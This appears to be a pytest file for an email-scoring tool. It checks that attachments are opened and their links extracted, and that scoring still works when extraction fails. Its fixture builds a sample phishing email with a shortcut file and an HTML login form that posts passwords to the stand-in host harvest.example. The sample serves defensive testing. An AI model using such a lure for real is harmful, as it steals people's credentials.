"""The score command knows what attachments hold, as workers do, and does without where it must."""

from __future__ import annotations

import sys
from email.message import EmailMessage

import pytest

from scorelane.cli import sources
from scorelane.cli.score import Standing, scored
from scorelane.extract import Extractor
from scorelane.scoring import Bundle, Policy, Scorer, default_bundle_path
from scorelane.signals.context import Directory

PAGE = b"<html><form action='https://harvest.example/post'><input type=password></form>"


@pytest.fixture
def source():
    message = EmailMessage()
    message["From"] = "Ann <ann@example.com>"
    message["To"] = "bob@example.org"
    message["Subject"] = "Invitation"
    message.set_content("See the file.")
    message.add_attachment(
        b"[InternetShortcut]\r\nURL=https://harvest.example/post\r\n",
        maintype="application",
        subtype="octet-stream",
        filename="open.url",
    )
    message.add_attachment(PAGE, maintype="text", subtype="html", filename="login.html")
    return sources.Source("mail", message.as_bytes(), None)


@pytest.fixture(scope="module")
def scorer():
    bundle = Bundle.load(default_bundle_path())
    return Scorer(bundle, Policy.from_bundle(bundle))


def test_the_command_opens_attachments(source, scorer, monkeypatch):
    seen = []
    score = Scorer.score
    monkeypatch.setattr(
        Scorer, "score", lambda self, messages, **given: seen.extend(messages) or score(self, messages, **given)
    )
    with Extractor() as extractor:
        (row,) = scored(Standing(scorer, Directory()), [source], extractor, explain=True)
    assert row["verdict"]
    assert [one.found.status for one in seen[0].opened] == ["ok", "ok"]
    assert {link.source for link in seen[0].links} == {"shortcut", "page"}


def test_mail_is_scored_where_no_server_can_be_started(source, scorer, monkeypatch, capsys):
    monkeypatch.setattr(sys, "executable", "/bin/false")
    with Extractor() as extractor:
        (row,) = scored(Standing(scorer, Directory()), [source], extractor, explain=False)
    assert row["verdict"]
    assert "attachments were not opened" in capsys.readouterr().err
